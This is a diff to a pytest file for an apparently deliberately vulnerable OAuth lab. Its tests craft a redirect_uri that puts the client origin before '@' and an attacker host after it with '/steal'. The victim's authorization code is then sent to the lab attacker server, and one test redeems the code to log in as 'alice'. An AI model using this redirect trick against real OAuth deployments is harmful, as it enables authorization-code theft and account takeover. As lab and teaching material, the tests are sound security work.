@@ -88,7 +88,7 @@ def test_only_lab_code_imports_it() -> None:
 
 
 def test_redirect_prefix(flow: FlowLab) -> None:
-    evil = flow.client.url + "@" + flow.attacker.url[7:] + "/steal"
+    evil = flow.client.origin + "@" + flow.attacker.url[7:] + "/steal"
     code = code_of(authorize(flow, redirect_uri=evil))          # admitted: the string starts with the origin
     assert "redirect_prefix" in flow.as_.codes[__import__("hashlib").sha256(code.encode()).hexdigest()].through
     flow.disable("redirect_prefix")
@@ -186,8 +186,8 @@ def test_every_mistake_off_only_the_registered_redirect_gets_a_code(module_flow:
                                                                    tail: str) -> None:
     module_flow.disable(*MISTAKES)
     try:
-        start = {"callback": module_flow.client.callback, "origin": module_flow.client.url,
-                 "userinfo": module_flow.client.url + "@127.0.0.1:9"}[base]
+        start = {"callback": module_flow.client.callback, "origin": module_flow.client.origin,
+                 "userinfo": module_flow.client.origin + "@127.0.0.1:9"}[base]
         redirect_uri = start + tail
         answer = authorize(module_flow, redirect_uri=redirect_uri, state="s")
         if redirect_uri == module_flow.client.callback:
@@ -246,5 +246,30 @@ def test_the_server_asks_once_for_the_proxy() -> None:
             assert asked.status_code == 200 and "Allow mcp-proxy" in asked.text
             mallory.post(f"{flow.as_.url}/consent", data={"client_id": "mcp-proxy"})
             assert mallory.get(f"{flow.as_.url}/authorize", params=query).status_code == 302
+    finally:
+        flow.close()
+
+
+@pytest.mark.parametrize("capability", [None, "s3cret-Prefix_1"])
+def test_an_open_and_a_private_flow_teach_the_same(capability: str | None) -> None:
+    """The prefix theft works end to end whether the lab is private or not (``origin`` is the part's
+    ``scheme://host:port``, its ``url`` carries the prefix), and ``where`` shows the same hops in both."""
+    flow = FlowLab(True, capability=capability).start()
+    try:
+        assert flow.client.origin == flow.client.url.removesuffix(f"/{capability}" if capability else "")
+        hops = [flow.where(url) for _, url in flow.disable(*MISTAKES).victim.visit(f"{flow.client.url}/login")]
+        assert hops == [("client", "/login"), ("server", "/authorize"), ("client", "/callback")]
+        assert flow.where("http://127.0.0.1:9/x") == (None, "/x")
+        flow.enable(*MISTAKES)
+        with httpx.Client(trust_env=False) as me:
+            request = dict(httpx.URL(me.get(f"{flow.client.url}/login").headers["location"]).params)
+            request["redirect_uri"] = flow.client.origin + "@" + flow.attacker.url.removeprefix("http://") + "/steal"
+            flow.victim.visit(f"{flow.as_.url}/authorize?{urlencode(request)}")
+            assert flow.attacker.received[-1].path == "/steal"
+            stolen = flow.attacker.received[-1].params["code"]
+            answer = me.get(f"{flow.client.url}/callback",
+                            params={"code": stolen, "state": request.get("state", ""), "iss": flow.as_.issuer})
+        assert answer.json() == {"logged_in_as": "alice"}
+        assert isinstance(last(flow), Breach) and last(flow).kind == "takeover"
     finally:
         flow.close()
